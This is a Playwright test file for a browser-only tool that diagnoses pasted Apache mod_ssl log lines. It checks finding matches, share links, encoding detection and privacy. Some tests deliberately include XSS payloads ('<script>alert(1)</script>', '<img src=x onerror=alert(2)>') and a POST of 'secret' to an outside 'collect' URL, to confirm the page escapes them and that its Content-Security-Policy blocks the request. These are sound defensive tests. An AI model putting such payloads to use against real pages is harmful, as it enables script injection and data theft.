import { expect, test } from '@playwright/test';
import { at, watch } from './helpers';

// The #8051 log (addresses replaced): a per-location SSLVerifyClient renegotiation refused by IE 11.
const EXCERPT_8051 = `[Mon Nov 23 10:15:30.207440 2026] [ssl:debug] [pid 4242:tid 139871202] ssl_engine_kernel.c(1019): [client 192.0.2.7:50816] AH02034: Initial (No.1) HTTPS request received for child 136 (server cn.example.org:443)
[Mon Nov 23 10:15:30.298608 2026] [ssl:debug] [pid 4242:tid 139871202] ssl_engine_kernel.c(570): [client 192.0.2.7:50816] AH02255: Changed client verification type will force renegotiation, referer: https://search.example.org/
[Mon Nov 23 10:15:30.298632 2026] [ssl:info] [pid 4242:tid 139871202] [client 192.0.2.7:50816] AH02221: Requesting connection re-negotiation, referer: https://search.example.org/
[Mon Nov 23 10:15:30.298717 2026] [ssl:info] [pid 4242:tid 139871202] [client 192.0.2.7:50816] AH02226: Awaiting re-negotiation handshake, referer: https://search.example.org/
[Mon Nov 23 10:15:30.370936 2026] [ssl:debug] [pid 4242:tid 139871309] ssl_engine_kernel.c(1844): [client 192.0.2.9:50817] AH02041: Protocol: TLSv1.2, Cipher: ECDHE-RSA-AES256-SHA384 (256/256 bits)
[Mon Nov 23 10:15:30.492266 2026] [ssl:error] [pid 4242:tid 139871202] [client 192.0.2.7:50816] AH02261: Re-negotiation handshake failed: Not accepted by client!?, referer: https://search.example.org/
[Mon Nov 23 10:15:30.492426 2026] [ssl:debug] [pid 4242:tid 139871202] ssl_engine_io.c(1212): (70014)End of file found: [client 192.0.2.7:50816] AH02007: SSL handshake interrupted by system [Hint: Stop button pressed in browser?!]
[Mon Nov 23 10:15:30.492448 2026] [ssl:info] [pid 4242:tid 139871202] [client 192.0.2.7:50816] AH01998: Connection closed to child 136 with abortive shutdown (server cn.example.org:443)`;

async function paste(page: import('@playwright/test').Page, text: string) {
  const box = page.getByLabel(/Paste an error log line/);
  await box.fill(text);
}

test('pasting the #8051 excerpt tells the renegotiation story with its fix, and nothing leaves the page', async ({ page }) => {
  const seen = watch(page);
  await page.goto(at('/diagnose/'));
  await page.waitForLoadState('networkidle');
  const after: { url: string; method: string; body: string | null }[] = [];
  page.on('request', (r) => after.push({ url: r.url(), method: r.method(), body: r.postData() }));
  await paste(page, EXCERPT_8051);

  const first = page.locator('[data-finding]').first();
  await expect(first).toHaveAttribute('data-finding', 'ie11-cors-client-cert-renegotiation');
  const story = first.getByText(/The story in your log/).locator('..');
  await expect(story.locator('li')).toHaveText([/AH02255/, /AH02221/, /AH02226/, /AH02261/, /AH02007/]);
  await expect(first.getByText('The fix', { exact: false })).toBeVisible();
  await expect(first.locator('pre')).toContainText('SSLVerifyClient');
  await expect(first.getByRole('link', { name: /Read the whole answer/ })).toHaveAttribute('href', at('/cases/ie11-cors-client-cert-renegotiation/'));

  // Recognised tokens are marked in the pasted text; every code of the excerpt is explained
  // (AH02034 and AH02041 are debug lines of every connection, with /errors/ pages of their own).
  await expect(page.locator('mark', { hasText: 'AH02261' })).toBeVisible();
  await expect(page.locator('mark[data-known="true"]', { hasText: 'AH02041' })).toBeVisible();
  await expect(page.getByRole('heading', { name: 'Not in the knowledge base yet' })).toHaveCount(0);
  // The excerpt grouped by connection: the renegotiating thread holds 7 of the 8 lines.
  await expect(page.getByText('pid 4242:tid 139871202 — 7 lines')).toBeVisible();

  // Privacy: after the paste, only the site's own pages may be fetched (Next prefetches links;
  // in a static export it first sends HEAD to the page to follow redirects), never with a body,
  // never with a piece of the pasted text; the URL keeps no text.
  const origin = new URL(page.url()).origin;
  for (const r of after) {
    expect(new URL(r.url).origin, r.url).toBe(origin);
    expect(['GET', 'HEAD'], r.url).toContain(r.method);
    expect(r.body).toBeNull();
    for (const piece of ['AH02261', '192.0.2.7', 'search.example.org', 'cn.example.org']) expect(decodeURIComponent(r.url)).not.toContain(piece);
  }
  expect(new URL(page.url()).hash).toBe('');
  expect(seen.foreign).toEqual([]);
  expect(seen.errors).toEqual([]);
});

test('single codes and strings find their entry first', async ({ page }) => {
  await page.goto(at('/diagnose/'));
  for (const [text, slug] of [
    // A lone AH02261 is the general refused renegotiation; the IE 11 case needs its own signs.
    ['AH02261', 'per-directory-client-certificate-renegotiation'],
    ['SSL23_GET_CLIENT_HELLO:unknown protocol', 'browser-hangs-http-to-https-port'],
    ['error:0A00010B:SSL routines::wrong version number', 'browser-hangs-http-to-https-port'],
    ['ERR_SSL_PROTOCOL_ERROR', 'browser-hangs-http-to-https-port'],
  ]) {
    await paste(page, text!);
    await expect(page.locator('[data-finding]').first()).toHaveAttribute('data-finding', slug!);
  }
});

test('an unknown code is reported with the closest known ones', async ({ page }) => {
  await page.goto(at('/diagnose/'));
  await paste(page, '[Mon Nov 23 10:00:00.000000 2026] [ssl:error] [pid 7:tid 8] [client 192.0.2.1:4242] AH02182: something new');
  const unknown = page.getByRole('region', { name: 'Not in the knowledge base yet' }).or(page.locator('section', { has: page.getByRole('heading', { name: 'Not in the knowledge base yet' }) }));
  await expect(unknown.first()).toContainText('AH02182');
  await expect(unknown.first()).toContainText('Closest known');
  await expect(page.getByText('No known problem recognised')).toBeVisible();
});

test('pasted and shared HTML is shown as text, never run', async ({ page }) => {
  let dialogs = 0;
  page.on('dialog', (d) => {
    dialogs++;
    void d.dismiss();
  });
  await page.goto(at('/diagnose/'));
  await paste(page, '<script>alert(1)</script>\n<img src=x onerror=alert(2)> AH02261');
  await expect(page.locator('mark', { hasText: 'AH02261' })).toBeVisible();
  await expect(page.locator('li', { hasText: '<img src=x onerror=alert(2)>' })).toBeVisible();
  expect(await page.locator('img[src="x"]').count()).toBe(0);

  await page.goto(at(`/diagnose/#text=${encodeURIComponent('<img src=x onerror=alert(3)><script>alert(4)</script> AH02261')}`));
  await expect(page.locator('[data-finding]').first()).toBeVisible();
  expect(await page.locator('img[src="x"]').count()).toBe(0);
  expect(dialogs).toBe(0);
});

test('the share link is off until asked for, and reproduces the diagnosis', async ({ page }) => {
  await page.goto(at('/diagnose/'));
  await paste(page, 'curl: (35) error:0A00010B:SSL routines::wrong version number');
  await expect(page.locator('[data-finding]').first()).toBeVisible();
  expect(new URL(page.url()).hash).toBe('');
  await page.getByLabel(/share link/).check();
  await expect.poll(() => new URL(page.url()).hash).toContain('#text=');
  const shared = page.url();
  await page.goto(at('/'));
  await page.goto(shared);
  await expect(page.getByLabel(/Paste an error log line/)).toHaveValue('curl: (35) error:0A00010B:SSL routines::wrong version number');
  await expect(page.locator('[data-finding]').first()).toHaveAttribute('data-finding', 'browser-hangs-http-to-https-port');
});

test('a log read with the wrong encoding, or not text at all, is named with what to do', async ({ page }) => {
  await page.goto(at('/diagnose/'));
  const line = '[Mon Nov 23 10:15:30.492266 2026] [ssl:error] [pid 4242] AH02261: Re-negotiation handshake failed';
  // A UTF-16LE file (PowerShell's `>`) read as 8-bit text: its BOM as "ÿþ", a NUL after every character.
  await paste(page, `\u00ff\u00fe${[...line].map((c) => `${c}\u0000`).join('')}`);
  await expect(page.getByTestId('paste-problem')).toHaveText(/UTF-16 text read as bytes: save the log as UTF-8/);
  await expect(page.getByText('No known problem recognised')).toHaveCount(0);
  // A gzip file opened as text.
  await paste(page, `\u001f\u008b\u0008\u0000${'\u0003\u0091x\u00fe'.repeat(20)}`);
  await expect(page.getByTestId('paste-problem')).toHaveText(/gzip-compressed.*zcat/);
  // A plain log says nothing of the kind.
  await paste(page, line);
  await expect(page.locator('[data-finding]').first()).toBeVisible();
  await expect(page.getByTestId('paste-problem')).toHaveCount(0);
});

test('the home page has the paste box too', async ({ page }) => {
  await page.goto(at('/'));
  await paste(page, 'SSL_ERROR_RX_RECORD_TOO_LONG');
  await expect(page.locator('[data-finding]').first()).toHaveAttribute('data-finding', 'browser-hangs-http-to-https-port');
});

test('the Content-Security-Policy stops any connection to another host', async ({ page }) => {
  const refusals: string[] = [];
  page.on('console', (m) => {
    if (/Content Security Policy/.test(m.text())) refusals.push(m.text());
  });
  await page.goto(at('/diagnose/'));
  const outcome = await page.evaluate(async () => {
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
    const tried = await fetch('https://example.org/collect', { method: 'POST', body: 'secret' }).then(() => 'sent', () => 'blocked');
    await new Promise((r) => setTimeout(r, 200)); // the violation event is queued as a task
    return { tried, violations };
  });
  expect(outcome.tried).toBe('blocked');
  // Refused by the policy itself, not merely by a missing network.
  expect([...outcome.violations, ...refusals].join(' ')).toMatch(/connect-src/);
});
